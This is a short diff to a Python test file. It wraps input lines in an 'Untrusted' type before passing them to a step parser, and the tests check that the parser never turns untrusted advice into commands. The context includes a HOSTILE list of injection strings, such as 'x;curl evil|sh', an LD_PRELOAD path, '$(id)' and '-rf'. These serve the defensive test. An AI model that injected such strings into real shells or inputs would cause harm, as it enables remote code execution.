@@ -12,6 +12,7 @@ from aboard.checks.train.boarding import _step
 from aboard.core.nodeset import fold_quoted
 from aboard.core.size import size
 from aboard.diagnoses import fabric, network
+from aboard.diagnoses.untrusted import Untrusted
 
 HOSTILE = ["x;curl evil|sh", "a'b", 'a", b: "c', "eth0, LD_PRELOAD: /tmp/x", "#", "$(id)", "a\nb", "-rf", "{}", "a: b"]
 
@@ -69,7 +70,7 @@ def test_each_way_to_fail_to_connect_has_its_steps() -> None:
 )
 def test_the_trainers_advice_is_read_and_written_anew(line: str) -> None:
     """It comes from a process that loaded a model."""
-    assert _step(line) == line
+    assert _step(Untrusted(line)) == line
 
 
 @pytest.mark.parametrize(
@@ -77,4 +78,4 @@ def test_the_trainers_advice_is_read_and_written_anew(line: str) -> None:
 )
 def test_other_advice_is_left_out(line: str) -> None:
     """Nothing that it doesn't say becomes a command."""
-    assert _step(line) is None
+    assert _step(Untrusted(line)) is None
